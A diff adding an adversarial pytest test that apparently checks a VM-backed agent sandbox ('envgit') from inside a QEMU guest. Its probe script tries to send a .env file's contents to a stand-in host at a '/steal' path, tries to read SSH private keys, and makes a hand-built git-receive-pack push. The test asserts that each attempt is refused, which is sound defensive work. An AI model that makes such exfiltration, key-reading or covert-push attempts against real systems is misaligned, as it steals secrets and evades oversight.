@@ -1,0 +1,97 @@
+"""The VM tier (backend: vm) under the same policy as the default tier, attacked from inside
+the guest: the secret canaries are not there to read (the project's denied files are never put
+into the guest, the host's home is not in it at all), and the guest's only network, the agent
+port's channel to the same gate, judges each request as the default tier's: a host not allowed
+is refused, a hidden `git push` (a POST to git-receive-pack made by hand) is refused by the
+push gate, and the servers see neither. Real QEMU (TCG here); one boot per attacker (~20 s).
+"""
+
+import json
+import os
+import subprocess
+
+import pytest
+
+from gatekit import hostport, netproject, servers
+from harness import CANARY, attacker  # noqa: F401
+
+pytestmark = pytest.mark.skipif(subprocess.run(["sh", "-c", "command -v qemu-system-x86_64"],
+                                               capture_output=True).returncode != 0,
+                                reason="QEMU is not installed (dev/run test installs it)")
+
+# One guest image for every test user: built once per machine, readable by all (it holds
+# Debian's public packages and envgit's agent, nothing of anyone's).
+SHARED_CACHE = "/var/tmp/envgit-test-vm-cache"
+
+
+@pytest.fixture(scope="module")
+def shared_image():
+    old = os.environ.get("ENVGIT_VM_CACHE")
+    os.environ["ENVGIT_VM_CACHE"] = SHARED_CACHE
+    try:
+        from envgit.vm import image
+        image.ensure()
+    finally:
+        if old is None:
+            os.environ.pop("ENVGIT_VM_CACHE")
+        else:
+            os.environ["ENVGIT_VM_CACHE"] = old
+    subprocess.run(["chmod", "-R", "a+rX", SHARED_CACHE], check=True)
+    return SHARED_CACHE
+
+
+GUEST = r'''
+import json, os, sys, urllib.request, urllib.error
+out = {}
+def go(name, url, data=None):
+    try:
+        with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=60) as r:
+            out[name] = [r.status, r.read().decode(errors="replace")[:200]]
+    except urllib.error.HTTPError as e:
+        out[name] = [e.code, e.read().decode(errors="replace")[:200]]
+    except Exception as e:
+        out[name] = ["error", repr(e)[:200]]
+go("allowed", sys.argv[1])
+go("denied_host", "https://not-allowed.example.test/steal?" + open(".env").read() if os.path.exists(".env") else "https://not-allowed.example.test/steal")
+# a hidden push: a ref update sent by hand, no git involved (what the default tier's push gate
+# refuses from curl, tests/adversarial/test_gate_paths.py)
+ref = ("1" * 40 + " " + "2" * 40 + " refs/heads/main\0report-status\n").encode()
+go("push", sys.argv[2], b"%04x" % (len(ref) + 4) + ref + b"0000PACK")
+for p in (".env", os.environ.get("HOST_HOME", "/nonexistent") + "/.ssh/id_ed25519", "/root/.ssh/id_ed25519"):
+    try:
+        out["read " + p] = open(p).read()
+    except OSError as e:
+        out["read " + p] = type(e).__name__
+print("RESULT " + json.dumps(out))
+'''
+
+
+def test_vm_guest_gets_no_secret_and_the_gate_refuses_what_it_refuses_by_default(attacker, shared_image):
+    with servers() as (git, stub):
+        netproject(attacker, git, stub, tail="backend: vm\nvm: { memory: 256MiB }\n")
+        attacker.env["ENVGIT_VM_CACHE"] = shared_image
+        (attacker.root / ".env").write_text(f"TOKEN={CANARY}\n")
+        (attacker.root / "probe.py").write_text(GUEST)
+        attacker.own(attacker.root / ".env", attacker.root / "probe.py")
+        allowed = f"https://{hostport(stub, 'stub.example.test')}/allowed"
+        push = f"https://{hostport(git)}/repo.git/git-receive-pack"
+        r = attacker.envgit("run", "--", "env", f"HOST_HOME={attacker.home}", "python3", "probe.py",
+                            allowed, push, timeout=400)
+        assert r.returncode == 0, r.stdout + r.stderr
+        line = next(l for l in r.stdout.splitlines() if l.startswith("RESULT "))
+        got = json.loads(line[len("RESULT "):])
+        assert CANARY not in r.stdout + r.stderr
+        assert got["allowed"][0] == 200, got                   # the gate is the way out, and works
+        assert got["denied_host"][0] != 200, got
+        # refused in git's own protocol (report-status "ng", HTTP 200) by the push gate
+        assert got["push"][0] != 200 or "preset:default/git-push" in got["push"][1], got
+        assert all(v == "FileNotFoundError" for k, v in got.items() if k.startswith("read ")), got
+        # the oracle: what reached the servers
+        assert any(q["path"] == "/allowed" for q in stub.requests)
+        assert not any("receive-pack" in q["path"] and q["method"] == "POST" for q in git.requests)
+        assert not any("steal" in q["path"] for q in stub.requests)
+        # recorded on the step, as in the default tier
+        step = json.loads(attacker.envgit("show", "last", "--json", check=True).stdout)
+        decisions = {(q.get("host"), q.get("decision")) for q in step["requests"]}
+        assert ("stub.example.test", "allow") in decisions, step["requests"]
+        assert any(h == "git.example.test" and d == "deny" for h, d in decisions), step["requests"]
